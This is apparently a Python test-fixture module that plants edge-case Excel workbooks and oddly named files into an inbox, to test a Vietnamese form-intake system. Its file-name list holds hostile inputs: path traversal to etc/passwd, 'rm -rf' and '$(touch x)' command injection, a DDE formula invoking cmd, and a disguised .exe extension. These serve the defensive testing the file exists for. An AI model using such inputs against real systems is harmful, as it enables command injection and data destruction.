    Accepted("chu-32767-trong-bang.xlsx", _named("á" * 32767, "x" * 32767, "dòng\n" * 6553)),
    Accepted("loi-trong-bang.xlsx", _counted('<c r="@"{style} t="e"><v>#REF!</v></c>'), ("error-value",)),
    Accepted("lenh-trong-bang.xlsx", _counted(inline("@", PLANTED[1])), ("text-with-number",)),
    Accepted("cong-thuc-khong-so.xlsx", _counted('<c r="@"{style}><f>1+1</f></c>'), ("formula-without-value",)),
    Accepted("lenh-trong-o-so.xlsx", _figure(inline("@", PLANTED[1])), ("text-with-number",), None),
    Accepted("dia-chi-web-trong-o-so.xlsx", _figure(inline("@", PLANTED[5])), ("not-a-number",), None),
    Accepted("ky-tu-dieu-khien.xlsx", _line("a_x000D__x000A_b", "c_x0007_d_x0000_e_x001B_[31mf", "_x005F_x0041_ g")),
    Accepted("chu-32767.xlsx", _line("á" * 32767, "x" * 32767, "dòng\n" * 6553)),
    Accepted("dung-sai-2.xlsx", _figure('<c r="@"{style} t="b"><v>2</v></c>'), ("error-value",), None),
    Accepted("kieu-la.xlsx", _figure('<c r="@"{style} t="zz"><v>5</v></c>'), ("error-value",), None),
    Accepted("chu-dai-trong-o-so.xlsx", _figure(inline("@", "5 " + "buổi " * 6553)), ("text-with-number",), None),
    Accepted(
        "chu-dai-ngoai-bieu.xlsx",
        lambda data, spots: with_rows(
            data, spots.guide, f'<row r="90">{inline("C90", "z" * 32767)}</row>'.replace("{style}", "")
        ),
        ("unkeyed-content",),
    ),
    Accepted(
        "chu-nguoc.xlsx",
        _line("\u202ecod.\u202c \u200bẩn\u200d \u2066trong\u2069", "\ufeffđầu \u00adgiữa", "\u200f\u200e thử"),
    ),
    Accepted(
        "macro.xlsm",
        lambda data, _: with_parts(data, {"xl/vbaProject.bin": compound({"VBA": bytes(5000)})}),
        ("macros-present",),
    ),
    Accepted(
        "khong-kieu.xlsx",
        lambda data, _: with_parts(
            changed(
                changed(
                    data, "xl/_rels/workbook.xml.rels", lambda t: re.sub(r"<Relationship [^>]*styles[^>]*/>", "", t)
                ),
                "[Content_Types].xml",
                lambda t: re.sub(r"<Override [^>]*styles[^>]*/>", "", t),
            ),
            {"xl/styles.xml": None},
        ),
        ("date-from-serial",),
    ),
    Accepted("nghiem-ngat.xlsx", lambda data, _: strict_open_xml(data)),
    Accepted("trang-bieu-do.xlsx", lambda data, _: _chart_sheet(data)),
    Accepted("khong-dia-chi.xlsx", _sheet(lambda t: _unaddressed(t))),
    Accepted("tien-to.xlsx", lambda data, spots: _prefixed(data, spots.figures)),
    Accepted("nhay-don.xlsx", _sheet(lambda t: re.sub(r'<c r="([A-Z]+\d+)"', r"<c r='\1'", t))),
    Accepted("xuong-dong-trong-the.xlsx", _sheet(lambda t: t.replace('<c r="', '<c\n  r="').replace("</v>", "</v >"))),
    Accepted(
        "ghi-chu-xml.xlsx",
        _sheet(
            lambda t: t.replace("<sheetData>", '<sheetData><!-- <c r="Z99"><v>9</v></c> -->').replace(
                "<row ", "<!-- x --><row ", 3
            )
        ),
    ),
    Accepted(
        "cdata.xlsx",
        lambda data, spots: changed(
            data, "xl/sharedStrings.xml", lambda t: re.sub(r"<t>((?:I\. )?Một)</t>", r"<t><![CDATA[\1]]></t>", t)
        ),
    ),
    Accepted("utf16.xlsx", lambda data, spots: with_parts(data, {spots.figures: _as_utf16(part(data, spots.figures))})),
    Accepted(
        "bom-dau-tep.xlsx",
        lambda data, spots: with_parts(data, {spots.figures: b"\xef\xbb\xbf" + part(data, spots.figures)}),
    ),
    Accepted(
        "cheo-nguoc.xlsx",
        lambda data, _: zipped({name.replace("/", "\\"): content for name, content in parts_of(data).items()}),
    ),
    Accepted(
        "duong-dan-tuyet-doi.xlsx",
        lambda data, _: changed(data, "xl/_rels/workbook.xml.rels", lambda t: t.replace('Target="', 'Target="/xl/')),
    ),
    Accepted(
        "o-tu-dong-xoa.xlsx",
        lambda data, spots: with_rows(data, spots.guide, '<row r="900000"><c r="XFD900000" s="1"/></row>'),
    ),
    Accepted(
        "kich-thuoc-sai.xlsx",
        _sheet(lambda t: re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', t)),
    ),
    Accepted("nhi-phan.xlsb", lambda data, _: _binary(data)),
    Accepted("khong-mo-rong", lambda data, _: data),
    Accepted("doi-ten.csv", lambda data, _: data),
)


def _hours(data: bytes, spots: Spots) -> bytes:
    """A count of hours too large to be one."""

    def style(text: str) -> str:
        text = re.sub(r"<numFmts[^>]*>", '<numFmts count="99"><numFmt numFmtId="990" formatCode="[h]:mm"/>', text)
        return re.sub(
            r"(<cellXfs[^>]*>)(.*?)(</cellXfs>)",
            r'\1\2<xf numFmtId="990" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/>\3',
            text,
            flags=re.DOTALL,
        )

    count = len(re.findall("<xf ", part(data, "xl/styles.xml").decode().split("<cellXfs")[1].split("</cellXfs")[0]))
    cell = f'<c r="{spots.figure}" s="{count}"><v>10000000000</v></c>'
    return put(changed(data, "xl/styles.xml", style), spots.figures, spots.figure, cell)


_STRICT = (
    ("http://schemas.openxmlformats.org/spreadsheetml/2006/main", "http://purl.oclc.org/ooxml/spreadsheetml/main"),
    ("http://schemas.openxmlformats.org/officeDocument/2006/", "http://purl.oclc.org/ooxml/officeDocument/"),
    ("http://schemas.openxmlformats.org/drawingml/2006/main", "http://purl.oclc.org/ooxml/drawingml/main"),
)


def strict_open_xml(data: bytes) -> bytes:
    """The workbook as Excel's «Strict Open XML» names its parts."""
    parts = parts_of(data)
    for name, content in parts.items():
        for loose, strict in _STRICT:
            content = content.replace(loose.encode(), strict.encode())
        parts[name] = content
    return zipped(parts)


def _chart_sheet(data: bytes) -> bytes:
    space = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    data = changed(
        data,
        "xl/workbook.xml",
        lambda t: t.replace("<sheets>", '<sheets><sheet name="Biểu đồ" sheetId="77" r:id="rId77"/>'),
    )
    data = changed(
        data,
        "xl/_rels/workbook.xml.rels",
        lambda t: t.replace(
            "</Relationships>",
            f'<Relationship Id="rId77" Type="{space}/chartsheet" Target="chartsheets/sheet1.xml"/></Relationships>',
        ),
    )
    chart = _HEAD + (
        b'<chartsheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetViews><sheetView '
        b'workbookViewId="0"/></sheetViews></chartsheet>'
    )
    return with_parts(data, {"xl/chartsheets/sheet1.xml": chart})


def _unaddressed(text: str) -> str:
    """Rows and cells without addresses, as a stream writer leaves them: the gaps are filled with empty cells."""

    def row(match: re.Match[str]) -> str:
        cells = re.findall(r'<c r="([A-Z])\d+"([^>]*?)(/>|>.*?</c>)', match[1])
        at = {letter: f"<c{rest}{end}" for letter, rest, end in cells}
        return "<row>" + "".join(at.get(letter, "<c/>") for letter in "ABCDEFGH") + "</row>"

    return re.sub(r'<row r="\d+"[^>]*>(.*?)</row>', row, text)


# --- In a folder -----------------------------------------------------------------------------------


def file_names() -> tuple[str, ...]:
    """Names that a good form may have when it comes in."""
    return (
        (
            "x..%2f..%2fetc%2fpasswd.xlsx",
            "-rf.xlsx",
            "; rm -rf .xlsx",
            "$(touch x).xlsx",
            "{0}{file}%s.xlsx",
            "báo cáo (1).xlsx",
            "bao\u0301 ca\u0301o to\u0302\u0309 ho\u031b\u0323p.xlsx",
            "slx.\u202excod.xlsx",
            "dong\nmoi.xlsx",
            "mau\x1b[31mdo\x07.xlsx",
            "'=1+1.xlsx",
            "=cmd|' C'!A0.xlsx",
            "n" * 250 + ".xlsx",
            "ẩn\u200b.xlsx",
            "con.xlsx",
            "x.xlsx.exe",
            " .xlsx",
            os.fsdecode(b"kh\xf4ng ph\xe2i ch\xff.xlsx"),
        )
        if os.name == "posix"
        else ("báo cáo (1).xlsx", "-rf.xlsx", "{0}{file}%s.xlsx")
    )


AGENCIES = ("SA", "SB", "SC")
INDICATORS = r"""
| code | topic | label         | unit | kind   | required | choices   | across_agencies | across_periods | formula   |
|------|-------|---------------|------|--------|----------|-----------|-----------------|----------------|-----------|
| A1   | Một   | Số buổi       | buổi | count  | yes      |           | sum             | sum            |           |
| A2   | Một   | Số người      | người | decimal |         |           | sum             | last           |           |
| A3   | Một   | Tỷ lệ         | %    | percent |         |           |                 | last           | =A1/A2*100 |
| A7   | Hai   | Ngày ban hành | ngày | date   |          |           | none            | none           |           |
"""
ROWS = """
| table | heading     | code | label    | unit  | kind  |
|-------|-------------|------|----------|-------|-------|
| VV    | Các vụ việc | TEN  | Vụ việc  |       | text  |
|       |             | SO   | Số người | người | count |
"""
SECTIONS = """
| code | role        | heading      |
|------|-------------|--------------|
| dat  | achievement | Mặt đạt được |
"""


@dataclass(frozen=True, slots=True)
class Planted:
    """A campaign folder with everything in its inbox, and the expectation of each file by its name."""

    folder: Folder
    rejected: dict[str, tuple[str, ...]]
    """The codes of which a refused file gives one."""
    accepted: dict[str, Accepted]
    agencies: dict[str, str]
    """The agency for which each accepted file counts."""


def filled_form(folder: Folder, agency: str) -> bytes:
    """A good filled form."""
    figures = "| code | 2019 | 2020 |\n|--|--|--|\n| A1 | 5 | 7 |\n| A2 | 50 | 70 |\n| A7 | 2020-03-07 | |"
    texts = [f"Ý thứ {n} của {agency}" for n in range(len(PLANTED))]
    lines = "| section | text |\n|--|--|\n" + "\n".join(f"| dat | {text} |" for text in texts)
    path = folder.root / f"{agency}.xlsx"
    write_intake(
        path,
        make_form(folder.campaign, folder.campaign.agency_by_code[agency], version=VERSION),
        replace(
            filling(figures, lines),
            rows={"VV": tuple({"TEN": f"Vụ {n} của {agency}", "SO": n + 1} for n in range(len(PLANTED)))},
        ),
    )
    data = path.read_bytes()
    path.unlink()
    return data


def spots_of(folder: Folder, data: bytes) -> Spots:
    """The cells of this form."""
    path = folder.root / "spots.xlsx"
    path.write_bytes(data)
    lines = tuple(cell_of(path, "statements", "dat", "text", turn=n)[1] for n in range(len(PLANTED)))
    sheet = keyed(path)["table:VV"]
    rows = [row for row in sheet.rows if not row.for_people][: len(PLANTED)]
    spots = Spots(
        figures="xl/worksheets/sheet3.xml",
        figure=cell_of(path, "figures", "A1", "2019")[1],
        following=cell_of(path, "figures", "A1", "2020")[1],
        day=cell_of(path, "figures", "A7", "2019")[1],
        statements="xl/worksheets/sheet5.xml",
        lines=lines,
        guide="xl/worksheets/sheet1.xml",
        table="xl/worksheets/sheet4.xml",
        names=tuple(sheet.address(row, "TEN") for row in rows),
        numbers=tuple(sheet.address(row, "SO") for row in rows),
    )
    path.unlink()
    return spots


def plant(root: Path) -> Planted:
    """Writes the campaign folder, with what only some systems allow (pipes, odd names) if this one does."""
    odd = {a.name: (f"H{n:02}", a) for n, a in enumerate(ACCEPTED)}
    named = {name: (f"N{n:02}", Accepted(name, lambda data, _: data)) for n, name in enumerate(file_names())}
    codes = [*AGENCIES, "SX", *(code for code, _ in (odd | named).values())]
    roster = "| code | name |\n|--|--|\n" + "\n".join(f"| {code} | Đơn vị {code} |" for code in codes)
    folder = definition(root, agencies=roster, indicators=INDICATORS, rows=ROWS, sections=SECTIONS)
    spots = spots_of(folder, filled_form(folder, "SX"))
    expected: dict[str, tuple[str, ...]] = {}
    for file in rejected(lambda _: filled_form(folder, "SX"), spots):
        (folder.inbox / file.name).write_bytes(file.data)
        expected[file.name] = tuple(file.code.split("|"))
    for name, (code, accepted) in (odd | named).items():
        (folder.inbox / name).write_bytes(accepted.change(filled_form(folder, code), spots))
    for code in AGENCIES:
        (folder.inbox / f"{code}.xlsx").write_bytes(filled_form(folder, code))
    expected |= _no_files(folder.inbox)
    return Planted(
        folder=folder,
        rejected=expected,
        accepted={name: a for name, (_, a) in (odd | named).items()},
        agencies={name: code for name, (code, _) in (odd | named).items()} | {f"{c}.xlsx": c for c in AGENCIES},
    )


def _no_files(inbox: Path) -> dict[str, tuple[str, ...]]:
    """Entries of a folder named like a workbook that are no file, or an unreadable one."""
    (inbox / "thu-muc.xlsx").mkdir()
    (inbox / "~$SA.xlsx").write_bytes(b"\x05Nguyen" + bytes(158))
    (inbox / ".~lock.SA.xlsx#").write_bytes(b",nguyen,may,,;")
    (inbox / "desktop.ini").write_bytes(b"[x]")
    if os.name != "posix":
        return {}
    os.mkfifo(inbox / "ong-dan.xlsx")
    (inbox / "lien-ket-dut.xlsx").symlink_to("khong-co.xlsx")
    (inbox / "vong-tron.xlsx").symlink_to("vong-tron.xlsx")
    found: dict[str, tuple[str, ...]] = {
        "ong-dan.xlsx": ("took-too-long",),
        "lien-ket-dut.xlsx": ("unreadable-file",),
        "vong-tron.xlsx": ("unreadable-file",),
    }
    if os.geteuid():
        (inbox / "khong-quyen.xlsx").write_bytes(b"PK")
        (inbox / "khong-quyen.xlsx").chmod(0)
        found["khong-quyen.xlsx"] = ("unreadable-file",)
    return found


if __name__ == "__main__":
    plant(Path(sys.argv[1]))
